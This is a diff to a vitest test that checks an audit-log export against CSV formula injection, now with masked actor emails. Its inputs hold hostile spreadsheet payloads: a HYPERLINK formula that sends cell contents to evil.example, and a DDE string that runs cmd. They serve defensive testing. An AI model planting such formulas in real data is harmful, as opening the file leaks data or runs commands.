@@ -4,12 +4,15 @@
 import { beforeAll, describe, expect, test } from "vitest";
 import { signInWithPassword } from "@/lib/auth/sign-in-with-password";
 import { verifyExport } from "@/lib/audit/export/verify-export";
+import { maskEmail } from "@/lib/privacy/subject-hash";
 import { createTestKey, seedRoles, uniqueName } from "../../helpers/fixtures";
 import { exportToFiles } from "../audit/export-fixtures";
 
 const corr = uniqueName("csv-formula");
-// Sign-in lower-cases the address it audits.
+// Sign-in lower-cases the address it audits, and keeps what was typed for an unknown account only
+// as a mask ("=***"), which still starts with the formula character.
 const email = `=hyperlink("http://evil.example/?"&a1,"${uniqueName("click")}")`;
+const actorLabel = maskEmail(email);
 const userAgent = "=cmd|' /C calc'!A0 @SUM(1+1)";
 let credentials: { apiKey: string };
 
@@ -45,7 +48,8 @@ describe("CSV formula injection", () => {
     const [header, ...rows] = parseCsv(saved.bytes.toString("utf8"));
     expect(rows).toHaveLength(1);
     const cell = (name: string) => rows[0][header.indexOf(name)];
-    expect(cell("actorLabel")).toBe(`'${email}`);
+    expect(actorLabel).toMatch(/^=/);
+    expect(cell("actorLabel")).toBe(`'${actorLabel}`);
     expect(cell("userAgent")).toBe(`'${userAgent}`);
     for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
     expect((await verifyExport({ filePath: saved.filePath, manifestPath: saved.manifestPath })).isValid).toBe(true);
@@ -54,7 +58,7 @@ describe("CSV formula injection", () => {
   test("JSONL keeps the values exactly as they were typed", async () => {
     const saved = await exportToFiles({ format: "jsonl", correlationId: corr }, credentials);
     const [line] = saved.bytes.toString("utf8").trimEnd().split("\n").map((text) => JSON.parse(text) as Record<string, unknown>);
-    expect(line).toMatchObject({ actorLabel: email, userAgent });
+    expect(line).toMatchObject({ actorLabel, userAgent });
     expect((await verifyExport({ filePath: saved.filePath, manifestPath: saved.manifestPath })).isValid).toBe(true);
   });
 });
